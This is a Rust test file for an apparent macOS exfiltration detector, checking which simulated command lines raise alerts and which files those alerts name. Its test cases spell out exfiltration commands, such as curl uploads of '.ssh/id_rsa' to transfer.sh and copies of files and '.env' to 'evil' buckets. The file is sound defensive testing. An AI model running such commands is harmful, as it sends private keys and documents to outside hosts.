//! Words of command lines, said in folders where every file is sensitive.

use super::world::*;

const ZSH: Program = apple("/bin/zsh", "com.apple.zsh");

/// The line, said there, and 20 kB to the host by what it starts.
fn said(cwd: &'static str, line: &str, host: &str) -> Told {
    let words: Vec<&str> = line.split(' ').collect();
    let program: &'static str = format!("/opt/homebrew/bin/{}", words[0]).leak();
    let mut w = World::new();
    w.cwd = cwd;
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let p = w.spawn(1.0, &shell, adhoc(program, "tool"), &words);
    w.upload(2.0, &p, host, 20_000);
    w.tell()
}

#[test]
fn words_are_no_files_because_of_where_they_are_said() {
    for (cwd, line, host) in [
        ("Downloads", "curl -X POST -d {\"a\":1} https://hooks.slack.com/services/x", "hooks.slack.com"),
        ("Downloads", "curl -d see=plan.docx https://hooks.slack.com/services/x", "hooks.slack.com"),
        ("Downloads", "curl -F text=plan.docx https://hooks.slack.com/services/x", "hooks.slack.com"),
        (".ssh", "curl -X POST -d id_rsa https://transfer.sh", "transfer.sh"),
        ("Downloads", "aws s3 cp /tmp/report s3://evil/", "evil.s3.amazonaws.com"),
        ("Downloads", "gsutil ls gs://corp", "storage.googleapis.com"),
        ("Downloads", "gh pr create --fill", "uploads.github.com"),
        ("Downloads", "gh repo view owner/name", "uploads.github.com"),
        ("Downloads", "hf download model", "huggingface.co"),
        ("Downloads", "rclone copy /opt/data mega:x", "g.api.mega.co.nz"),
        ("Downloads", "rclone copy /opt/data mega:x/y.docx", "g.api.mega.co.nz"),
        ("Downloads", "git-remote-https origin https://github.com/corp/app.git", "github.com"),
        ("Downloads", "restic snapshots", "evil.s3.amazonaws.com"),
        ("Downloads", "ngrok http 3000", "tunnel.ngrok.com"),
        ("Downloads", "ngrok http localhost:3000", "tunnel.ngrok.com"),
        ("Downloads", "slack chat send hello #general", "files.slack.com"),
        ("Downloads", "docker push corp/app:1.0", "evil.s3.amazonaws.com"),
        ("Downloads", "node /opt/homebrew/bin/npx vercel deploy", "evil.s3.amazonaws.com"),
        ("Downloads", "acmectl login app.corp.com", "evil.s3.amazonaws.com"),
        ("Documents/infra", "terraform apply -auto-approve", "evil.s3.amazonaws.com"),
        ("Documents/corp/app", "acmectl deploy staging v1.2.3", "evil.s3.amazonaws.com"),
        ("Documents/corp/app", "acmectl push origin/main", "evil.s3.amazonaws.com"),
        ("Library/Keychains", "acmectl push", "evil.s3.amazonaws.com"),
        (".password-store", "acmectl set key=value", "evil.s3.amazonaws.com"),
    ] {
        let cwd: &'static str = format!("/Users/alice/{cwd}").leak();
        let alerts = said(cwd, line, host);
        assert!(alerts.alerts().is_empty(), "{cwd} {line}: {:#?}", alerts.alerts());
    }
}

#[test]
fn relative_files_are_named_all_the_same() {
    for (cwd, line, path) in [
        (".ssh", "curl -T id_rsa https://transfer.sh", ".ssh/id_rsa"),
        (".ssh", "curl -d @id_rsa https://transfer.sh", ".ssh/id_rsa"),
        (".ssh", "acmectl push id_rsa", ".ssh/id_rsa"),
        ("Documents", "curl -T plan https://transfer.sh", "Documents/plan"),
        ("Documents", "curl -F text=@plan https://transfer.sh", "Documents/plan"),
        ("Documents", "acmectl push plan.docx", "Documents/plan.docx"),
        ("Documents", "acmectl push --file=plan.docx", "Documents/plan.docx"),
        ("Documents", "acmectl push ./plan", "Documents/plan"),
        ("Documents/x", "acmectl push ../plan", "Documents/x/../plan"),
        ("Documents", "acmectl push corp/plan", "Documents/corp/plan"),
        ("Documents", "rclone copy plan evil:", "Documents/plan"),
        ("src/app", "acmectl push .env", "src/app/.env"),
        (".", "acmectl push Documents/plan", "./Documents/plan"),
        (".", "acmectl push .ssh/id_rsa", "./.ssh/id_rsa"),
    ] {
        let cwd: &'static str = format!("/Users/alice/{cwd}").leak();
        let told = said(cwd, line, "transfer.sh");
        let alert = told.one_of_any_confidence();
        let path = format!("/Users/alice/{path}");
        let named =
            alert.reads.iter().any(|read| read.path.to_string() == path && read.evidence.as_str() == "argv");
        assert!(named && alert.reads.len() == 1, "{cwd} {line}: {:#?}", alert.reads);
        assert!(alert.rules.iter().any(|rule| &*rule.id == "cw.exfil.argv-upload"), "{cwd} {line}");
    }
}

/// The open that a command line announced is told beside it, and takes nothing away from it.
#[test]
fn the_command_line_and_the_open_of_one_file() {
    let key = "/Users/alice/.ssh/id_rsa";
    for (opened, evidence) in [(false, &["argv"][..]), (true, &["open", "argv"])] {
        let mut w = World::new();
        let shell = w.launch(0.0, ZSH, &["-zsh"]);
        let curl = apple("/usr/bin/curl", "com.apple.curl");
        let p = w.spawn(1.0, &shell, curl, &["curl", "-T", key, "https://content.dropboxapi.com/x"]);
        if opened {
            w.open(1.5, &p, key);
        }
        w.upload(2.0, &p, "content.dropboxapi.com", 20_000);
        let told = w.tell();
        let alert = told.alert();
        assert_eq!(alert.count, 1);
        let rules: Vec<&str> = alert.rules.iter().map(|rule| &*rule.id).collect();
        assert_eq!(rules, ["cw.exfil.argv-upload", "cw.exfil.cloud-storage"]);
        assert!(alert.reads.iter().all(|read| read.path.to_string() == key));
        let ways: Vec<&str> = alert.reads.iter().map(|read| read.evidence.as_str()).collect();
        assert_eq!(ways, evidence);
        assert!(alert.reasons.iter().any(|reason| reason.code.as_str() == "arguments-name-file"));
    }
}
